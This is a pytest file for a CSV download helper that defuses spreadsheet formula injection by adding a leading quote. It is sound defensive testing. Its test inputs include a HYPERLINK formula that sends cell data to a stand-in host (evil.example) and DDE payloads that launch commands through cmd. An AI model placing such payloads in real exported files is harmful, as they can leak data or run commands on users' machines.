"""CSV downloads are formula-safe (OWASP CSV injection): ui/shared/downloads.py."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from ui.shared.downloads import DOWNLOAD_NOTE, csv_bytes, formula_safe


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
])
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell):
    frame = pd.DataFrame({"query": [cell, "cats"], "AP": [0.5, 0.25]})
    rows = read_back(csv_bytes(frame))
    assert rows[1][0] == "'" + cell
    assert rows[2] == ["cats", "0.25"]


@pytest.mark.parametrize("cell", ["-1", "-0.25", "+3", "-2e-3", "+.5", "q-17", "a=b", "cat@home", " =x"])
def test_numbers_and_harmless_text_stay_as_they_are(cell):
    rows = read_back(csv_bytes(pd.DataFrame({"query": [cell]})))
    assert rows[1] == [cell]


def test_numeric_columns_and_missing_values_are_untouched():
    frame = pd.DataFrame({"query": ["=1", None], "delta": [-0.5, float("nan")], "n": [-3, 4]})
    rows = read_back(csv_bytes(frame))
    assert rows == [["query", "delta", "n"], ["'=1", "-0.5", "-3"], ["", "", "4"]]


def test_column_names_and_the_index_are_made_safe_too():
    frame = pd.DataFrame({"=cmd": [1]}, index=pd.Index(["@x"], name="query"))
    rows = read_back(csv_bytes(frame, index=True))
    assert rows == [["query", "'=cmd"], ["'@x", "1"]]
    assert read_back(csv_bytes(frame))[0] == ["'=cmd"]


def test_the_frame_given_is_not_changed():
    frame = pd.DataFrame({"query": ["=1"]})
    csv_bytes(frame)
    assert frame["query"].tolist() == ["=1"]
    assert formula_safe(None) is None


def test_the_note_is_one_line():
    assert "\n" not in DOWNLOAD_NOTE and "'" in DOWNLOAD_NOTE
    # the note says what formula_safe does, plain numbers included (+1 stays +1)
    assert "+1" in DOWNLOAD_NOTE and formula_safe("+1") == "+1" and formula_safe("+x") == "'+x"
